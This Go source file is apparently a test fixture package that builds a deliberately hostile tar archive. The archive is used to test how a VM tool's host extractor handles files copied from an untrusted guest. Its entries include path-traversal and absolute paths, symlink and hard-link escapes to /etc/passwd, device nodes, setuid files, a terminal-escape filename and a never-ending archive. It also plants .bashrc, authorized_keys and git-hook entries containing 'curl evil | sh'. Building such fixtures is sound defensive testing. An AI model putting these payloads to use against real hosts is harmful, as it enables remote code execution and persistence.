// Package hostiletar builds the archive a hostile guest sends for "vm cp
// VM:SRC DEST": every way its entries could reach past DEST/base(SRC) or
// leave something dangerous on the host, and one good file. The hostile
// test agent sends it and the host extractor's tests take it apart, so
// both test the same archive. It holds no testing code: the agent links it.
package hostiletar

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"time"

	"github.com/bangervm/banger/internal/testutil/endless"
)

// Entries outside the source (Top), relative to DEST.
const (
	Escape    = "../escape"
	Absolute  = "/tmp/banger-hostile-absolute"
	Bashrc    = ".bashrc"
	SSHKeys   = ".ssh/authorized_keys"
	GitHook   = ".git/hooks/pre-commit"
	EscapeDir = "../escape-dir" // a symbolic link's target, outside DEST
)

// Names below the source's entry: join them to Top.
const (
	// Planted and PlantedDir are entries over names the test plants in
	// DEST/base(SRC) first: a symbolic link to a file outside and a
	// directory of mode 0700 (the archive says 0777).
	Planted    = "planted"
	PlantedDir = "private"
	Link       = "evil"         // a symbolic link to ../.. ...
	ThroughLnk = "evil/escaped" // ... and a file through it
	HardLink   = "passwd"       // a hard link to /etc/passwd
	CharDev    = "null"         // a character device (1,3)
	BlockDev   = "sda"          // a block device (8,0)
	FIFO       = "fifo"         // a FIFO
	Setuid     = "suid"         // a setuid file, lands without the bit
	Good       = "good"         // a plain file, lands
	GoodBody   = "the good file\n"
	// Terminal is a FIFO whose name would clear the screen, retitle the
	// terminal and fake a line of output if printed raw.
	Terminal = "\x1b[2J\x1b]0;owned\x07\nbanger: all copied"
)

// Entry is one entry of an archive.
type Entry struct {
	Name     string
	Type     byte // tar.TypeReg if zero
	Body     string
	Mode     int64
	Linkname string
	Devmajor int64
	Devminor int64
}

// Build writes entries as a PAX tar.
func Build(entries ...Entry) ([]byte, error) {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	mt := time.Unix(1_600_000_000, 0)
	for _, e := range entries {
		h := &tar.Header{Name: e.Name, Typeflag: e.Type, Mode: e.Mode, Linkname: e.Linkname, Devmajor: e.Devmajor, Devminor: e.Devminor, ModTime: mt, Format: tar.FormatPAX}
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(e.Body))
		}
		if err := tw.WriteHeader(h); err != nil {
			return nil, fmt.Errorf("hostile archive: %q: %w", e.Name, err)
		}
		if _, err := tw.Write([]byte(e.Body)); err != nil {
			return nil, err
		}
	}
	if err := tw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// Archive is the hostile archive of a source whose root entry is top (see
// agentproto.TarName). What would harm the host under a permissive
// extraction comes first: one that stops at the first bad entry has
// already done the damage.
func Archive(top string) []byte {
	in := func(n string) string { return top + "/" + n }
	b, err := Build(
		Entry{Name: top + "/", Type: tar.TypeDir, Mode: 0o777},
		Entry{Name: in(CharDev), Type: tar.TypeChar, Mode: 0o666, Devmajor: 1, Devminor: 3},
		Entry{Name: in(BlockDev), Type: tar.TypeBlock, Mode: 0o666, Devmajor: 8},
		Entry{Name: in(FIFO), Type: tar.TypeFifo, Mode: 0o666},
		Entry{Name: in(Setuid), Body: "#!/bin/sh\nid\n", Mode: 0o4755},
		Entry{Name: in(PlantedDir) + "/", Type: tar.TypeDir, Mode: 0o777},
		Entry{Name: in(Planted), Body: "through the planted link\n"},
		Entry{Name: in(Link), Type: tar.TypeSymlink, Linkname: "../../escape-dir"},
		Entry{Name: in(ThroughLnk), Body: "through the archive's link\n"},
		Entry{Name: in(HardLink), Type: tar.TypeLink, Linkname: "/etc/passwd"},
		Entry{Name: in(Terminal), Type: tar.TypeFifo, Mode: 0o644},
		Entry{Name: Escape, Body: "escaped\n"},
		Entry{Name: Absolute, Body: "absolute\n"},
		Entry{Name: Bashrc, Body: "curl evil | sh\n"},
		Entry{Name: SSHKeys, Body: "ssh-ed25519 AAAA evil\n"},
		Entry{Name: GitHook, Body: "#!/bin/sh\ncurl evil | sh\n", Mode: 0o755},
		Entry{Name: in(Good), Body: GoodBody},
	)
	if err != nil {
		panic(err) // fixed entries: a failure is a bug here
	}
	return b
}

// Refused are the entry names of Archive(top) a strict extraction into a
// directory prepared as Planted and PlantedDir say must refuse, in order.
func Refused(top string) []string {
	in := func(n string) string { return top + "/" + n }
	return []string{in(CharDev), in(BlockDev), in(FIFO), in(Planted), in(ThroughLnk), in(HardLink), in(Terminal), Escape, Absolute, Bashrc, SSHKeys, GitHook}
}

// EndlessName is the file of Endless, below top.
const EndlessName = "big"

// Endless is an archive that never ends: the source's directory, then a
// file whose header claims a terabyte, followed by zeros without end.
func Endless(top string) io.Reader {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range []*tar.Header{
		{Name: top + "/", Typeflag: tar.TypeDir, Mode: 0o755, Format: tar.FormatPAX},
		{Name: top + "/" + EndlessName, Typeflag: tar.TypeReg, Mode: 0o644, Size: 1 << 40, Format: tar.FormatPAX},
	} {
		if err := tw.WriteHeader(h); err != nil {
			panic(err)
		}
	}
	// The header is written; the body is never finished, so tw is not
	// closed.
	return io.MultiReader(&buf, endless.Bytes(0))
}
